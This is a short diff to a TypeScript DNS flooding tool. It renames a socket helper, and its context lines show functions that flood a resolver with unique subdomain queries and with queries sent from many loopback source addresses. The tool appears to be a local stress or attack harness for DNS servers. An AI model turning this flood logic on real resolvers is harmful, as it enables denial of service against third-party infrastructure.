@@ -43,7 +43,7 @@ function pace(rate: number, action: (number: number) => void): void {
   }, BEAT_MS);
 }
 
-function open(address: string, { host, ports }: Attack): Promise<Socket> {
+function openSocket(address: string, { host, ports }: Attack): Promise<Socket> {
   const socket = createSocket("udp4");
   socket.on("error", () => {});
   return new Promise((resolve) =>
@@ -57,7 +57,7 @@ const numbered = encodeQuestion(`u${"0".repeat(DIGITS)}.net`);
 const NUMBER_AT = numbered.indexOf("0".repeat(DIGITS), 12, "latin1");
 
 async function askUniqueNames(attack: Attack): Promise<void> {
-  const sockets = await Promise.all(Array.from({ length: 8 }, () => open(attack.from, attack)));
+  const sockets = await Promise.all(Array.from({ length: 8 }, () => openSocket(attack.from, attack)));
   pace(attack.flood, (number) => {
     const question = Buffer.from(numbered);
     question.writeUInt16BE(number & 0xffff);
@@ -70,7 +70,7 @@ async function spoof(attack: Attack): Promise<void> {
   // Addresses of nobody: sources that never read what comes.
   const address = (index: number) => `127.${64 + (index % 64)}.${(index >> 6) & 255}.${1 + (index % 250)}`;
   const sockets: Socket[] = [];
-  for (let index = 0; index < SOURCES; index++) sockets.push(await open(address(index), attack));
+  for (let index = 0; index < SOURCES; index++) sockets.push(await openSocket(address(index), attack));
   const question = encodeQuestion("spoofed.org");
   pace(attack.flood, (number) => sockets[number % SOURCES]?.send(question));
 }
